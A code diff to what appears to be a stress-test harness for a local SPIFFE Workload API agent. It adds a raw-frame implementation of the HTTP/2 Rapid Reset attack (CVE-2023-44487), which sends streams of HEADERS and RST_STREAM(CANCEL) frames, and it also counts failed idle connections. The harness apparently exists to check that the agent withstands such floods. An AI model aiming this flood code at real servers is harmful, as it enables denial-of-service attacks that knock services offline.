@@ -60,14 +60,17 @@ async function streams(connections, each, callPath) {
 
 async function idle(connections) {
   const closed = [];
+  const outcomes = [];
   for (let c = 0; c < connections; c++) {
     const socket = net.connect(socketPath);
-    socket.on('error', () => {});
+    socket.resume(); // read (nothing ever comes), so the agent closing it is seen
     held.push(socket);
+    // Past the listen backlog a Unix socket connect fails at once (EAGAIN): not connected.
+    outcomes.push(new Promise((resolve) => { socket.once('connect', () => resolve(true)); socket.once('error', () => resolve(false)); }));
     closed.push(new Promise((resolve) => socket.once('close', () => resolve(Date.now()))));
   }
   const started = Date.now();
-  report({ connected: connections });
+  report({ connected: (await Promise.all(outcomes)).filter(Boolean).length });
   const times = await Promise.all(closed);
   report({ closed: times.length, afterMs: Math.max(...times) - started });
 }
@@ -84,20 +87,52 @@ async function quiet(connections) {
   report({ closed: times.length, afterMs: Math.max(...times) - started });
 }
 
+/**
+ * HTTP/2 Rapid Reset (CVE-2023-44487) in raw frames, as an attacker writes it: HEADERS then
+ * RST_STREAM(CANCEL) for stream after stream, never waiting for an answer (a reset stream no
+ * longer counts against the server's max concurrent streams). Reports the GOAWAY it got.
+ */
 async function reset(count) {
-  const session = connect();
-  let goaway;
-  session.on('goaway', (code) => (goaway = code));
-  const closed = new Promise((resolve) => session.once('close', resolve));
+  const socket = net.connect(socketPath);
+  socket.on('error', () => {});
+  held.push(socket);
+  await new Promise((resolve) => socket.once('connect', resolve));
+  const frame = (type, flags, streamId, payload) => {
+    const header = Buffer.alloc(9);
+    header.writeUIntBE(payload.length, 0, 3);
+    header[3] = type;
+    header[4] = flags;
+    header.writeUInt32BE(streamId, 5);
+    return Buffer.concat([header, payload]);
+  };
+  const literal = (name, value) => Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
+  const path = callPathOr('/SpiffeWorkloadAPI/FetchX509SVID');
+  // HPACK: :method POST (static 3), :scheme http (static 6), then literals without indexing.
+  const block = Buffer.concat([Buffer.from([0x83, 0x86]), literal(':authority', 'localhost'), literal(':path', path), literal('content-type', 'application/grpc'), literal('te', 'trailers'), literal('workload.spiffe.io', 'true')]);
+  const cancel = Buffer.alloc(4);
+  cancel.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
+  let goaway = null;
+  let pending = Buffer.alloc(0);
+  socket.on('data', (chunk) => {
+    pending = Buffer.concat([pending, chunk]);
+    while (pending.length >= 9 && pending.length >= 9 + pending.readUIntBE(0, 3)) {
+      const length = pending.readUIntBE(0, 3);
+      const [type, flags] = [pending[3], pending[4]];
+      if (type === 4 && !(flags & 1)) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ack
+      if (type === 7 && goaway === null) goaway = pending.readUInt32BE(9 + 4); // the first one says why
+      pending = pending.subarray(9 + length);
+    }
+  });
+  const closed = new Promise((resolve) => socket.once('close', resolve));
+  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
   let sent = 0;
-  for (; sent < count && !session.closed && !session.destroyed; sent++) {
-    const request = open(session, callPathOr('/SpiffeWorkloadAPI/FetchX509SVID'));
-    // Once HEADERS is on the wire (a stream cancelled before that is never sent at all).
-    request.once('ready', () => request.close(http2.constants.NGHTTP2_CANCEL));
-    if (sent % 50 === 49) await new Promise((resolve) => setImmediate(resolve));
+  for (; sent < count && !socket.destroyed && goaway === null; sent++) {
+    const id = 1 + 2 * sent;
+    socket.write(Buffer.concat([frame(1, 0x4 | 0x1, id, block), frame(3, 0, id, cancel)]));
+    if (sent % 20 === 19) await new Promise((resolve) => setImmediate(resolve));
   }
   await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, 2000))]);
-  report({ sent, goaway: goaway ?? null, closed: session.closed || session.destroyed });
+  report({ sent, goaway, closed: socket.destroyed || socket.readableEnded });
 }
 
 function callPathOr(fallback) {
